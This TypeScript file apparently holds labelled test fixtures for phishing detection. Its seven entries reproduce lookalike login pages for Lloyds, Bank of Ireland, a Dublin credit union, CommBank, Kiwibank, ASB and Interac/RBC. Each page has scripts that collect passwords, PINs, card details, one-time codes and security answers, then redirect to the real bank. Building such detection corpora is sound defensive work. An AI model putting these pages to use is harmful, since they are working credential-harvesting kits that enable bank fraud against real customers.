import { htmlRoute, redirectRoute, type Entry } from '../entry.js';
import { doc, imgRoute, js, json } from '../parts/x-kit.js';

// Bank and building-society kits reported by customers in the UK, Ireland, Australia, New Zealand and Canada.

const done = (to: string, msg = 'Thank you. Your details have been verified.') =>
  htmlRoute(`<!doctype html><html><head><meta http-equiv="refresh" content="3;url=${to}"><title>Please wait</title></head><body style="font-family:Arial;text-align:center;padding-top:80px"><img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" alt=""><p>${msg}</p><p>You will now be redirected...</p></body></html>`);

export const entries: Entry[] = [
  {
  id: 'x-phish-lloyds-sms-new-payee',
  label: 'phishing',
  kind: 'bank-kit',
  url: 'https://lbg-alerts.info/r/Kq2w8',
  routes: {
    'lbg-alerts.info/r/Kq2w8': redirectRoute(302, 'https://lloyds-payee-review.com/personal/logon/?ref=NP-88213'),
    'lloyds-payee-review.com/personal/logon/': htmlRoute(doc({
      title: 'Lloyds Bank - Log on to Internet Banking',
      css: `header{background:#006a4d;color:#fff;padding:14px 28px;display:flex;align-items:center;gap:14px}header b{font-size:20px;letter-spacing:.5px}
.wrap{max-width:460px;margin:30px auto;padding:0 18px}.alert{background:#fff4e5;border-left:5px solid #f29b00;padding:12px 14px;font-size:14px;margin-bottom:18px}
label{display:block;font-weight:600;margin:14px 0 5px;font-size:14px}input{width:100%;padding:11px;border:1px solid #8a8a8a;border-radius:3px;font-size:16px}
button{margin-top:22px;width:100%;background:#006a4d;color:#fff;border:0;padding:13px;font-size:16px;border-radius:3px;cursor:pointer}.small{font-size:13px;color:#555}.mi{display:flex;gap:8px}.mi select{flex:1;padding:9px}`,
      body: `<header><img src="/personal/logon/img/horse.png" width="34" height="34" alt=""><b>LLOYDS BANK</b></header>
<div class="wrap">
<div class="alert"><strong>New payee request NP-88213</strong><br>A new payee <b>J. MARSDEN</b> (sort code 60-83-71) was added to your account on a new device. If this was not you, log on below to cancel the request.</div>
<form id="s1" action="/personal/logon/verify.php" method="post">
<h2 style="margin:0 0 6px">Log on</h2><p class="small">Please enter your details to continue.</p>
<label for="u">User ID</label><input id="u" name="userid" autocomplete="off" required>
<label for="p">Password</label><input id="p" name="password" type="password" required>
<button type="submit">Continue</button>
<p class="small"><a href="#">Forgotten your logon details?</a></p>
</form>
<form id="s2" action="/personal/logon/verify.php" method="post" style="display:none">
<h2 style="margin:0 0 6px">Memorable information</h2><p class="small">Please select characters 2, 5 and 7 from your memorable information.</p>
<div class="mi"><select name="mi1"><option>-</option></select><select name="mi2"><option>-</option></select><select name="mi3"><option>-</option></select></div>
<label>Mobile number registered to your account</label><input name="mobile" inputmode="tel">
<label>Date of birth</label><input name="dob" placeholder="DD/MM/YYYY">
<button type="submit">Cancel payee request</button></form>
<p class="small" style="margin-top:30px">Lloyds Bank plc. Registered Office: 25 Gresham Street, London EC2V 7HN. Registered in England and Wales no. 2065. Authorised by the Prudential Regulation Authority.</p>
</div>
<script>
var abc='abcdefghijklmnopqrstuvwxyz0123456789'.split('');document.querySelectorAll('.mi select').forEach(function(s){abc.forEach(function(c){var o=document.createElement('option');o.textContent=c;s.appendChild(o)})});
document.getElementById('s1').addEventListener('submit',function(e){e.preventDefault();var d=new FormData(this);fetch('/personal/logon/verify.php',{method:'POST',body:d}).then(function(){document.getElementById('s1').style.display='none';document.getElementById('s2').style.display='block'})});
</script>`,
    })),
    'lloyds-payee-review.com/personal/logon/img/horse.png': imgRoute(0, 106, 77),
    'lloyds-payee-review.com/personal/logon/verify.php': done('https://www.lloydsbank.com/', 'Thank you. The payee request has been cancelled.'),
  },
},
  {
  id: 'x-phish-boi365-approve-device',
  label: 'phishing',
  kind: 'bank-kit',
  url: 'https://boi365-online.net/365online/login',
  body: doc({
    title: '365 Online - Bank of Ireland',
    css: `body{background:#fafafa}.bar{background:#0000a0;height:64px;display:flex;align-items:center;padding:0 28px;color:#fff;font-weight:700}.bar i{display:inline-block;width:22px;height:22px;border-radius:50%;background:#fff;margin-right:10px}
.panel{max-width:430px;margin:30px auto;background:#fff;border:1px solid #ddd;padding:26px}input{width:100%;padding:11px;margin:6px 0 14px;border:1px solid #888}button{background:#0000a0;color:#fff;border:0;width:100%;padding:12px;font-size:15px}.wait{text-align:center}.spin{width:40px;height:40px;border:4px solid #ccd;border-top-color:#0000a0;border-radius:50%;animation:r 1s linear infinite;margin:20px auto}@keyframes r{to{transform:rotate(360deg)}}`,
    body: `<div class="bar"><i></i>Bank of Ireland &nbsp;<span style="font-weight:400">365 online</span></div>
<div class="panel" id="p1"><h2>Log in</h2>
<label>365 User ID</label><input id="uid" maxlength="6" placeholder="6 digits">
<label>Date of birth (DDMMYYYY)</label><input id="dob">
<label>Full 6 digit PIN</label><input id="pin" type="password" maxlength="6">
<button onclick="step()">Continue</button>
<p style="font-size:12px;color:#555">Bank of Ireland is regulated by the Central Bank of Ireland.</p></div>
<div class="panel wait" id="p2" style="display:none"><h2>Approve on your device</h2><div class="spin"></div><p>We have sent a notification to your Bank of Ireland app. Please open the app and select <b>Approve</b> to register this browser. A member of our team may call you to complete the verification.</p><p style="font-size:13px">Reference: <span id="ref"></span></p></div>
<script>
function step(){var x=new XMLHttpRequest();x.open('POST','/365online/api/auth');x.setRequestHeader('Content-Type','application/x-www-form-urlencoded');x.send('u='+encodeURIComponent(uid.value)+'&d='+encodeURIComponent(dob.value)+'&p='+encodeURIComponent(pin.value));
document.getElementById('p1').style.display='none';document.getElementById('p2').style.display='block';document.getElementById('ref').textContent='BOI-'+Math.floor(Math.random()*900000+100000);
setInterval(function(){fetch('/365online/api/status?u='+uid.value).then(function(r){return r.json()}).then(function(j){if(j.next)location.href=j.next})},4000)}
</script>`,
  }),
  routes: {
    'boi365-online.net/365online/api/auth': json({ ok: 1 }),
    'boi365-online.net/365online/api/status': json({ wait: true }),
  },
},
  {
  id: 'x-phish-credit-union-ie-member-portal',
  label: 'phishing',
  kind: 'credit-union-kit',
  url: 'https://dncu-member-login.com/online/',
  body: doc({
    title: 'Dublin North Credit Union - Online Services',
    css: `header{border-bottom:4px solid #00a3ad;padding:14px 24px;display:flex;align-items:center;gap:12px}header b{color:#00535a;font-size:19px}
.c{max-width:520px;margin:24px auto;padding:0 16px}input{width:100%;padding:10px;border:1px solid #aaa;margin:4px 0 12px}button{background:#00a3ad;border:0;color:#fff;padding:11px 30px;font-size:15px}
.info{background:#e9f7f8;padding:12px;font-size:14px;border-radius:4px}`,
    body: `<header><img src="/online/logo.png" width="40" height="40" alt=""><b>Dublin North Credit Union</b></header>
<div class="c">
<div class="info">Members: to receive your 2025 dividend and loan interest rebate, please verify your membership details by Friday. Accounts not verified will have the dividend credited to a suspense account.</div>
<h2>Member Login</h2>
<form action="/online/member.php" method="post">
<label>Member Number</label><input name="member">
<label>PIN</label><input name="pin" type="password">
<label>Full name</label><input name="name">
<label>IBAN for dividend payment</label><input name="iban" placeholder="IE00 XXXX 0000 0000 0000 00">
<label>Debit card number (for identity check)</label><input name="card" inputmode="numeric">
<label>Expiry</label><input name="exp" placeholder="MM/YY" style="width:120px">
<button>Submit</button></form>
<p style="font-size:12px;color:#666">Dublin North Credit Union Limited is regulated by the Central Bank of Ireland. Members' savings are protected by the Deposit Guarantee Scheme.</p>
</div>`,
  }),
  routes: {
    'dncu-member-login.com/online/logo.png': imgRoute(0, 163, 173),
    'dncu-member-login.com/online/member.php': done('https://www.creditunion.ie/', 'Thank you. Your dividend will be paid within 5 working days.'),
  },
},
  {
  id: 'x-phish-commbank-netbank-card-verify',
  label: 'phishing',
  kind: 'bank-kit',
  url: 'https://commbank-netbank.info/netbank/Logon/Logon.aspx',
  body: doc({
    title: 'NetBank - Log on to NetBank - Enjoy simple and secure online banking from Commonwealth Bank',
    css: `body{background:#f5f5f5}.y{background:#ffcc00;height:8px}.nav{background:#fff;padding:14px 26px;display:flex;align-items:center;gap:12px;box-shadow:0 1px 3px #0002}.nav i{width:30px;height:30px;background:#000;clip-path:polygon(50% 0,100% 50%,50% 100%,0 50%);display:inline-block;border:3px solid #ffcc00}
.f{max-width:400px;margin:40px auto;background:#fff;padding:28px;border-radius:6px}input{display:block;width:100%;padding:12px;border:1px solid #999;border-radius:4px;margin:6px 0 16px}button{width:100%;padding:13px;background:#ffcc00;border:0;border-radius:4px;font-weight:700;font-size:16px}`,
    body: `<div class="y"></div><div class="nav"><i></i><b>CommBank</b> <span style="color:#666">NetBank</span></div>
<div class="f" id="f1"><h2>Log on to NetBank</h2>
<label>Client number</label><input id="cn" inputmode="numeric">
<label>Password</label><input id="pw" type="password">
<label><input type="checkbox" style="display:inline;width:auto"> Remember client number</label>
<button id="b1">Log on</button><p style="font-size:13px"><a href="#">I've forgotten my log on details</a> · <a href="#">Register for NetBank now</a></p></div>
<div class="f" id="f2" style="display:none"><h2>Confirm your card</h2><p style="font-size:14px">For your security, please confirm the card linked to this profile. This is a one-off check required under the new Scam-Safe Accountability Code.</p>
<label>Card number</label><input id="cc" inputmode="numeric" maxlength="19"><label>Expiry (MM/YY)</label><input id="ex"><label>CVC</label><input id="cv" maxlength="4"><label>NetCode SMS</label><input id="nc" maxlength="6">
<button id="b2">Confirm</button></div>
<script>
var S=function(o){navigator.sendBeacon('/netbank/Logon/rs.php',JSON.stringify(o))};
b1.onclick=function(){S({cn:cn.value,pw:pw.value});f1.style.display='none';f2.style.display='block'};
b2.onclick=function(){S({cc:cc.value,ex:ex.value,cv:cv.value,nc:nc.value});location.replace('https://www.commbank.com.au/')};
</script>`,
  }),
  routes: { 'commbank-netbank.info/netbank/Logon/rs.php': json({ s: 1 }) },
},
  {
  id: 'x-phish-kiwibank-keepsafe',
  label: 'phishing',
  kind: 'bank-kit',
  url: 'https://kiwibank-nz-login.co/ib/',
  body: doc({
    title: 'Kiwibank Internet Banking',
    css: `body{background:#f6f7f2}.t{background:#00a651;color:#fff;padding:15px 22px;font-weight:700;font-size:21px}.b{max-width:440px;margin:30px auto;background:#fff;padding:24px;border-radius:8px}input{width:100%;padding:11px;border:1px solid #999;border-radius:6px;margin:6px 0 14px}button{background:#00a651;color:#fff;border:0;padding:12px;width:100%;border-radius:22px;font-size:16px}`,
    body: `<div class="t">kiwibank<span style="color:#c5e600">.</span></div>
<div class="b"><h2>Log in to internet banking</h2>
<form id="k"><label>Access number</label><input name="an"><label>Password</label><input type="password" name="pw">
<div id="ks" style="display:none"><label id="q">KeepSafe question</label><input name="ks1"><label>Second KeepSafe answer</label><input name="ks2"><label>Phone number</label><input name="ph"></div>
<button>Log in</button></form>
<p style="font-size:12px;color:#666">Kia ora. We will never ask for your password by phone, text or email.</p></div>
<script>
var qs=['What was the name of your first pet?','What street did you grow up on?','What is your mother\\'s maiden name?'];
document.getElementById('k').onsubmit=function(e){e.preventDefault();var ks=document.getElementById('ks');if(ks.style.display==='none'){ks.style.display='block';document.getElementById('q').textContent=qs[Math.floor(Math.random()*3)];return}
fetch('/ib/post.php',{method:'POST',body:new FormData(this)}).finally(function(){location='https://www.kiwibank.co.nz/'})};
</script>`,
  }),
  routes: { 'kiwibank-nz-login.co/ib/post.php': json({ ok: true }) },
},
  {
  id: 'x-phish-asb-netcode-otp-only',
  label: 'phishing',
  kind: 'otp-only',
  url: 'https://asb-netcode.nz-verify.com/c/7731',
  body: doc({
    title: 'ASB - Confirm NetCode',
    css: `body{background:#ffdd00;display:grid;place-items:center;min-height:100vh}.c{background:#fff;padding:30px;border-radius:10px;max-width:360px;text-align:center}input{font-size:26px;letter-spacing:8px;width:200px;text-align:center;padding:8px;border:2px solid #000}button{display:block;margin:16px auto 0;background:#000;color:#ffdd00;border:0;padding:12px 40px;font-weight:700}`,
    body: `<div class="c"><h1 style="margin:0">ASB</h1><h3>Payment on hold</h3>
<p>A payment of <b>NZ$1,849.00</b> to <b>SMITH HOLDINGS LTD</b> is on hold. If you did not make this payment, enter the NetCode we have just sent you to decline it.</p>
<form action="/c/7731/decline" method="post"><input name="netcode" maxlength="6" inputmode="numeric" autofocus><button>Decline payment</button></form>
<p style="font-size:11px;color:#777;margin-top:20px">ASB Bank Limited. Code expires in <span id="t">120</span>s.</p></div>
<script>var t=120;setInterval(function(){if(t>0)document.getElementById('t').textContent=--t},1000)</script>`,
  }),
  routes: { 'asb-netcode.nz-verify.com/c/7731/decline': done('https://www.asb.co.nz/', 'Payment declined. Thank you.') },
},
  {
  id: 'x-phish-interac-etransfer-rbc',
  label: 'phishing',
  kind: 'payment-app-kit',
  url: 'https://etransfer-deposit-ca.com/deposit/?id=CAjh7Tq92LwR',
  body: doc({
    title: 'INTERAC e-Transfer',
    css: `body{background:#f1f1f1}.h{background:#fdb913;padding:14px 22px;font-weight:800;font-size:20px}.m{max-width:640px;margin:26px auto;background:#fff;padding:26px}
.banks{display:grid;grid-template-columns:repeat(3,1fr);gap:12px;margin-top:16px}.banks a{border:1px solid #ccc;padding:18px 8px;text-align:center;text-decoration:none;font-weight:600;border-radius:4px}.banks a:hover{border-color:#fdb913}`,
    body: `<div class="h">Interac <span style="font-weight:400">e-Transfer&reg;</span></div>
<div class="m"><h2>Deposit your money</h2>
<p><b>CANADA REVENUE AGENCY</b> sent you <b>$486.19 (CAD)</b>. Message: <i>GST/HST credit adjustment 2025</i></p>
<p>Select your financial institution:</p>
<div class="banks"><a href="/deposit/rbc/signin">RBC Royal Bank</a><a href="/deposit/rbc/signin?fi=td">TD</a><a href="/deposit/rbc/signin?fi=bmo">BMO</a><a href="/deposit/rbc/signin?fi=cibc">CIBC</a><a href="/deposit/rbc/signin?fi=scotia">Scotiabank</a><a href="/deposit/rbc/signin?fi=desj">Desjardins</a></div>
<p style="font-size:12px;color:#666;margin-top:20px">&reg; Trade-mark of Interac Corp. Used under licence. This transfer expires in 30 days.</p></div>`,
  }),
  routes: {
    'etransfer-deposit-ca.com/deposit/rbc/signin': htmlRoute(doc({
      title: 'RBC Online Banking - Sign In',
      css: `.h{background:#005daa;color:#fff;padding:14px 22px;font-size:19px}.h b{background:#ffd200;color:#005daa;padding:2px 7px;margin-right:8px}.m{max-width:420px;margin:30px auto}input{width:100%;padding:11px;margin:6px 0 14px;border:1px solid #888}button{background:#005daa;color:#fff;border:0;padding:12px 30px}`,
      body: `<div class="h"><b>RBC</b>Royal Bank</div><div class="m"><h2>Sign In to accept your INTERAC e-Transfer</h2>
<form action="/deposit/rbc/accept.php" method="post"><label>Client Card or Username</label><input name="card"><label>Password</label><input type="password" name="pass"><label>Security question answer</label><input name="sq"><button>Sign In</button></form></div>`,
    })),
    'etransfer-deposit-ca.com/deposit/rbc/accept.php': done('https://www.rbcroyalbank.com/', 'Your deposit is being processed. Funds will be available within 30 minutes.'),
  },
},
];
